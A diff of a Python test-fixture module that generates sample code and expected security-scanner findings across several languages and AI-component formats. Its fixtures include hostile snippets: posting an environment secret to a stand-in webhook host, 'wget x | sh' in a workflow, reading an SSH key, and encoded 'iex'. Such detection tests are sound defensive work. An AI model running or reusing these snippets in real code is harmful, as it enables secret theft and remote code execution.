@@ -49,17 +49,23 @@ def read(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
     return spark.read.parquet(f"{sf_dir}/{table}.parquet")
 
 
-def files(spark: SparkSession, sf_dir: str) -> DataFrame:
+def files(spark: SparkSession, sf_dir: str, names: list[str] = FILES) -> DataFrame:
     """target_id, path, content: every document as a file of its source, with lines added."""
     d, i = read(spark, sf_dir, "documents"), F.col("doc_id")
-    path = F.concat(pick(FOLDERS, F.floor(i / 3)), F.lit("/"), i.cast("string"), F.lit("/"), pick(FILES, i))
+    path = F.concat(pick(FOLDERS, F.floor(i / 3)), F.lit("/"), i.cast("string"), F.lit("/"), pick(names, i))
     return d.select(F.col("source").alias("target_id"), path.alias("path"), F.concat("text", F.lit("\n"), pick(LINES, F.floor(i / 5))).alias("content"))
 
 
-FILES_SQL = (
-    f"select source as target_id, {sql_pick(FOLDERS, 'doc_id // 3')} || '/' || doc_id || '/' || {sql_pick(FILES, 'doc_id')} as path, "
-    f"text || chr(10) || {sql_pick(LINES, 'doc_id // 5')} as content from documents"
-)
+def files_sql(names: list[str]) -> str:
+    return (
+        f"select source as target_id, {sql_pick(FOLDERS, 'doc_id // 3')} || '/' || doc_id || '/' || {sql_pick(names, 'doc_id')} as path, "
+        f"text || chr(10) || {sql_pick(LINES, 'doc_id // 5')} as content from documents"
+    )
+
+
+FILES_SQL = files_sql(FILES)
+#: File names whose scanners SQL can express.
+PLAIN_FILES = ["install.sh", "run.sh", "tool.bat", "Dockerfile", "notes.md", "system_prompt.txt", ".env", "data.bin"]
 
 CATEGORIES = ["network_access", "persistence", "secret_exposure", "supply_chain", "git_operation", "install_script", "remote_access", "workflow_permission", "permission_change", "workflow_privilege", "sensitive_file"]
 TITLES = ["Alpha", "beta", "Gamma", "delta", "Omega"]
@@ -117,37 +123,67 @@ MEMBERS_SQL = f"""select page_id // 8 as archive_id, regexp_replace(url, '^[a-z]
   (length(html) * case when page_id % 97 = 0 then 10000 else 1 end)::bigint as size, trunc(length(html) / case when page_id % 31 = 0 then 300 else 3 end)::bigint as compressed_size,
   page_id % 53 = 0 as is_link, page_id % 59 = 0 as is_special from pages"""
 
-#: Code by language with what its scanner reports: (line from 1, rule).
+READ, WRITE, DELETE, CODES, SHELL, NET, ENV, GIT, RIGHTS, FETCH, SENSITIVE = (
+    "filesystem_read", "filesystem_write", "file_delete", "code_execution", "shell_execution", "network_access", "environment_read", "git_operations", "privilege_escalation", "download_execute", "sensitive_data_access",
+)
+HASH = "0123456789abcdef0123456789abcdef01234567"
+#: Code by language with what its scanner reports, known by hand: (line from 1, rule, severity, capabilities, metadata).
+#: Every rule has a case, and near misses stand beside them.
 CODE = {
     "powershell": [
-        ("$x = 1\nInvoke-WebRequest u", [(2, "SI-PS-002")]),
-        ("'IEX in text' # IEX\nStart-Process p '-ExecutionPolicy Bypass'", [(2, "SI-PS-003"), (2, "SI-PS-007")]),
-        ("<# IEX\n#> iex $y -enc aa", [(2, "SI-PS-001"), (2, "SI-PS-005")]),
-        ("Get-Item a", []),
+        ("$x = 1\nInvoke-WebRequest u", [(2, "SI-PS-002", "low", NET, "")]),
+        ("'IEX in text' # IEX\nStart-Process p '-ExecutionPolicy Bypass'", [(2, "SI-PS-003", "medium", SHELL, ""), (2, "SI-PS-007", "high", SHELL, "")]),
+        ("<# IEX\n#> iex $y -enc aa", [(2, "SI-PS-001", "high", f"{CODES},{SHELL}", ""), (2, "SI-PS-005", "critical", f"{CODES},{SHELL}", "")]),
+        ("$c.DownloadString('u')\npowershell -WindowStyle Hidden\nGet-DownloadStrings x -windowstyles hidden", [(1, "SI-PS-004", "medium", NET, ""), (2, "SI-PS-006", "medium", SHELL, "")]),
+        ("Get-Item a; Start-Processes b; iexx; '-WindowStyle'", []),
     ],
     "javascript": [
-        ("const p = child_process.exec(c);\nfetch(u, {method: 'POST'});", [(1, "SI-JS-001"), (2, "SI-JS-005"), (2, "SI-JS-008")]),
-        ("/* eval(x) */ let s = 'fs.rm(x)';\nnew Function(s); process.env.A", [(2, "SI-JS-002"), (2, "SI-JS-006")]),
-        ("fs.readFileSync(a); fs.unlink(b)\nnew WebSocket('wss://h/analytics')", [(1, "SI-JS-007"), (1, "SI-JS-003"), (2, "SI-JS-005"), (2, "SI-JS-009")]),
+        ("const p = child_process.exec(c);\nfetch(u, {method: 'POST'});", [(1, "SI-JS-001", "high", SHELL, ""), (2, "SI-JS-005", "low", NET, "destination=unknown|method=POST|transport=http"), (2, "SI-JS-008", "low", NET, "destination=unknown|method=POST")]),
+        ("/* eval(x) */ let s = 'fs.rm(x)';\nnew Function(s); process.env.A", [(2, "SI-JS-002", "high", CODES, ""), (2, "SI-JS-006", "low", ENV, "")]),
+        ("fs.readFileSync(a); fs.unlink(b)\nnew WebSocket('wss://h/analytics')", [(1, "SI-JS-007", "low", READ, ""), (1, "SI-JS-003", "medium", DELETE, ""), (2, "SI-JS-005", "low", NET, "destination=unknown|method=CONNECT|transport=websocket"), (2, "SI-JS-009", "low", NET, "hint=telemetry")]),
+        ("child_process.spawn('git', a)\nfs.appendFile(a, b)\naxios.get('https://api.github.com/x')", [(1, "SI-JS-001", "medium", f"{SHELL},{GIT}", ""), (2, "SI-JS-004", "low", WRITE, ""), (3, "SI-JS-005", "info", NET, "destination=github|method=GET|transport=http")]),
+        ("myeval(x); fss.rm(y); const processEnv = 1;\nconst fetcher = fetchAll(u)", []),
     ],
     "python": [
-        ("import os as o\no.system('x')\neval('1')", [(2, "SI-PY-003"), (3, "SI-PY-004")]),
-        ("import subprocess\nsubprocess.run(['git'], shell=True)\nx = 'eval(1)'", [(2, "SI-PY-001")]),
-        ("import pickle\npickle.loads(b'')\nsubprocess.call(x)", [(2, "SI-PY-005"), (3, "SI-PY-002")]),
+        ("import os as o\no.system('x')\neval('1')", [(2, "SI-PY-003", "high", SHELL, ""), (3, "SI-PY-004", "medium", CODES, "")]),
+        ("import subprocess\nsubprocess.run(['git'], shell=True)\nx = 'eval(1)'", [(2, "SI-PY-001", "high", f"{SHELL},{GIT}", "")]),
+        ("import pickle\npickle.loads(b'')\nsubprocess.call(x)", [(2, "SI-PY-005", "high", CODES, ""), (3, "SI-PY-002", "medium", SHELL, "")]),
+        ("import yaml\nyaml.load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)\nsubprocess.getoutput(x)\nsubprocess.run('git status')", [(2, "SI-PY-006", "high", CODES, ""), (6, "SI-PY-002", "medium", f"{SHELL},{GIT}", "")]),
         ("def broken(", []),
     ],
     "behavior": [
-        ("import os, requests\nrequests.post('https://h.example/webhook', data=os.environ['K'])", [(2, "SI-PY-020"), (2, "SI-PY-021"), (2, "SI-PY-025"), (2, "SI-PY-026")]),
-        ("open('/home/u/.ssh/id')\nopen('x', 'w')\nos.remove('x')", [(1, "SI-FS-001"), (2, "SI-PY-023"), (3, "SI-PY-024")]),
-        ("import socket\nsocket.create_connection(('h', 1))\nx = 'open(1)'", [(2, "SI-PY-021")]),
+        (
+            "import os, requests\nrequests.post('https://h.example/webhook', data=os.environ['K'])",
+            [(2, "SI-PY-020", "low", ENV, ""), (2, "SI-PY-021", "low", NET, "destination=unknown|domain=h.example|method=POST|transport=http"), (2, "SI-PY-025", "low", NET, "destination=unknown|method=POST"), (2, "SI-PY-026", "low", NET, "destination=unknown|hint=webhook")],
+        ),
+        ("open('/home/u/.ssh/id')\nopen('x', 'w')\nos.remove('x')", [(1, "SI-FS-001", "medium", f"{READ},{SENSITIVE}", "operation=read|path_class=ssh"), (2, "SI-PY-023", "low", WRITE, ""), (3, "SI-PY-024", "medium", DELETE, "")]),
+        ("import socket\nsocket.create_connection(('h', 1))\nx = 'open(1)'", [(2, "SI-PY-021", "low", NET, "destination=unknown|domain=h|method=CONNECT|transport=socket")]),
+        ("import socket, os\nsocket.socket()\nopen('y').read_text()\nos.getenv('A')\nopener('x')", [(2, "SI-PY-021", "low", NET, "destination=unknown|domain=dynamic|method=SOCKET|transport=socket"), (3, "SI-PY-022", "low", READ, ""), (4, "SI-PY-020", "low", ENV, "")]),
+        (
+            "import requests\nrequests.get('https://api.github.com/x')\nrequests.request('PUT', 'https://h.example/', json=x)",
+            [(2, "SI-PY-021", "info", NET, "destination=github|domain=api.github.com|method=GET|transport=http"), (3, "SI-PY-021", "low", NET, "destination=unknown|domain=h.example|method=PUT|transport=http"), (3, "SI-PY-025", "low", NET, "destination=unknown|method=PUT")],
+        ),
     ],
     "github-actions": [
-        ("on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: other/act@v1\n      - run: wget x | sh", [(1, "SI-GHA-001"), (5, "SI-GHA-003"), (5, "SI-GHA-004"), (6, "SI-GHA-005"), (6, "SI-GHA-009")]),
-        ("on: push\npermissions: write-all\nenv:\n  A: ${{ secrets.B }}", [(2, "SI-GHA-002"), (4, "SI-GHA-007")]),
+        (
+            "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: other/act@v1\n      - run: wget x | sh",
+            [(1, "SI-GHA-001", "high", RIGHTS, ""), (5, "SI-GHA-003", "info", "", "action=other/act|reference=v1"), (5, "SI-GHA-004", "medium", "", "action=other/act|reference=v1"), (6, "SI-GHA-005", "high", f"{NET},{FETCH},{SHELL}", ""), (6, "SI-GHA-009", "info", SHELL, "")],
+        ),
+        ("on: push\npermissions: write-all\nenv:\n  A: ${{ secrets.B }}", [(2, "SI-GHA-002", "high", RIGHTS, ""), (4, "SI-GHA-007", "medium", SENSITIVE, "")]),
+        (
+            f"on: push\njobs:\n  a:\n    steps:\n      - uses: actions/upload-artifact@{HASH}\n      - run: echo ${{{{ github.event.pull_request.title }}}}\n      - uses: ./local",
+            [(5, "SI-GHA-008", "info", READ, f"action=actions/upload-artifact|operation=upload|reference={HASH}"), (6, "SI-GHA-006", "high", SHELL, ""), (6, "SI-GHA-009", "info", SHELL, "")],
+        ),
         ("on: [push", []),
     ],
+    "server": [
+        ("@app.tool()\ndef f():\n    import os\n    os.remove('x')\n    return open('y').read()", [(1, "SI-MCP-002", "high", f"{READ},{DELETE}", 'component_type=mcp|tools=["f"]')]),
+        ("@tool\nasync def g(u):\n    return requests.get(u), os.environ.get('A')\ndef h():\n    subprocess.run(x)", [(1, "SI-MCP-002", "medium", f"{NET},{ENV}", 'component_type=mcp|tools=["g"]')]),
+        ("def plain():\n    return 1", []),
+        ("@app.tool()\ndef a():\n    pass\n@app.tool()\ndef b(p):\n    Path.open(p, 'w'); p.read_text()", [(1, "SI-MCP-002", "medium", f"{READ},{WRITE}", 'component_type=mcp|tools=["a","b"]')]),
+    ],
 }
-SIGN = {"powershell": "# ", "javascript": "// ", "python": "# ", "behavior": "# ", "github-actions": "# "}
+SIGN = {"powershell": "# ", "javascript": "// ", "python": "# ", "behavior": "# ", "github-actions": "# ", "server": "# "}
 
 
 def code_files(spark: SparkSession, sf_dir: str, language: str) -> DataFrame:
@@ -155,9 +191,44 @@ def code_files(spark: SparkSession, sf_dir: str, language: str) -> DataFrame:
     i = F.col("doc_id")
     comment = F.regexp_replace("text", r"(?m)^", SIGN[language])
     content = F.concat(comment, F.lit("\n"), pick([c for c, _ in CODE[language]], i))
-    return read(spark, sf_dir, "documents").select(F.col("source").alias("target_id"), F.concat(F.lit("code/"), i.cast("string")).alias("path"), F.lit("python" if language == "behavior" else language).alias("language"), content.alias("content"))
+    name = "/mcp_server.py" if language == "server" else ""
+    path = F.concat(F.lit("code/"), i.cast("string"), F.lit(name))
+    return read(spark, sf_dir, "documents").select(F.col("source").alias("target_id"), path.alias("path"), F.lit("python" if language in ("behavior", "server") else language).alias("language"), content.alias("content"))
 
 
 def code_sql(language: str) -> str:
-    rows = ", ".join(f"({k}, {line}, '{rule}')" for k, (_, hits) in enumerate(CODE[language]) for line, rule in hits)
-    return f"select source as target_id, 'code/' || doc_id as path, (len(string_split(text, chr(10))) + x.line)::int as line, x.rule as rule_id from documents join (values {rows}) x(k, line, rule) on doc_id % {len(CODE[language])} = x.k"
+    rows = ", ".join(
+        f"({k}, {line}, '{rule}', '{severity}', '{able}', {quoted(meta)}, {quoted(code.split(chr(10))[line - 1].strip())})" for k, (code, hits) in enumerate(CODE[language]) for line, rule, severity, able, meta in hits
+    )
+    name = "/mcp_server.py" if language == "server" else ""
+    return f"""select source as target_id, 'code/' || doc_id || '{name}' as path, (len(string_split(text, chr(10))) + x.line)::int as line, x.rule as rule_id, x.severity, x.able as capabilities, x.meta as metadata, x.snippet
+  from documents join (values {rows}) x(k, line, rule, severity, able, meta, snippet) on doc_id % {len(CODE[language])} = x.k"""
+
+
+#: Files of assistants' components by doc_id: name, head, tail, whether the text between is a JSON string, findings.
+COMPONENTS = [
+    ("SKILL.md", "---\nname: x\nallowed-tools: Bash, Read\n---\n", "", False, [(1, "SI-AI-001", "info", "", "component_type=skill", None), (3, "SI-AI-002", "high", f"{READ},{SHELL}", 'component_type=skill|declared=["Bash","Read"]', "allowed-tools: Bash, Read")]),
+    ("plugin.json", '{\n  "permissions": ["network", "env-vars"],\n  ', "\n}", True, [(1, "SI-AI-003", "info", "", "component_type=plugin", None), (2, "SI-AI-004", "medium", f"{NET},{ENV}", 'component_type=plugin|declared=["network","env-vars"]', '"permissions": ["network", "env-vars"],')]),
+    (
+        "mcp.json", '{\n  "mcpServers": {"a": {"command": "run", "env": {"KEY": "hidden"}}, "b": {"url": "https://h.example"}},\n  ', "\n}", True,
+        [(2, "SI-MCP-001", "high", f"{SHELL},{NET},{ENV}", 'commands=["run"]|component_type=mcp|environment_keys=["KEY"]|servers=["a","b"]|urls=["https://h.example"]', '"mcpServers": {"a": {"command": "run", "env": {"KEY": "hidden"}}, "b": {"url": "https://h.example"}},')],
+    ),
+    ("SKILL.md", "no front matter\n", "", False, [(1, "SI-AI-001", "info", "", "component_type=skill", None)]),
+    ("mcp.json", "{", "", False, []),
+    ("plugin.json", '{\n  "permissions": ["paint"],\n  ', "\n}", True, [(1, "SI-AI-003", "info", "", "component_type=plugin", None)]),
+]
+
+
+def component_files(spark: SparkSession, sf_dir: str) -> DataFrame:
+    i = F.col("doc_id")
+    note = F.to_json(F.struct(F.col("text").alias("note")))
+    note = F.substring(note, F.lit(2), F.length(note) - 2)
+    body = F.when(pick([str(c[3]) for c in COMPONENTS], i) == "True", note).otherwise(F.col("text"))
+    content = F.concat(pick([c[1] for c in COMPONENTS], i), body, pick([c[2] for c in COMPONENTS], i))
+    path = F.concat(F.lit("c/"), i.cast("string"), F.lit("/"), pick([c[0] for c in COMPONENTS], i))
+    return read(spark, sf_dir, "documents").select(F.col("source").alias("target_id"), path.alias("path"), F.lit("text").alias("language"), content.alias("content"))
+
+
+def components_sql() -> str:
+    rows = ", ".join(f"({k}, '{c[0]}', {line}, '{rule}', '{severity}', '{able}', {quoted(meta)}, {quoted(snippet) if snippet else 'null'})" for k, c in enumerate(COMPONENTS) for line, rule, severity, able, meta, snippet in c[4])
+    return f"select source as target_id, 'c/' || doc_id || '/' || x.name as path, x.line::int as line, x.rule as rule_id, x.severity, x.able as capabilities, x.meta as metadata, x.snippet from documents join (values {rows}) x(k, name, line, rule, severity, able, meta, snippet) on doc_id % {len(COMPONENTS)} = x.k"
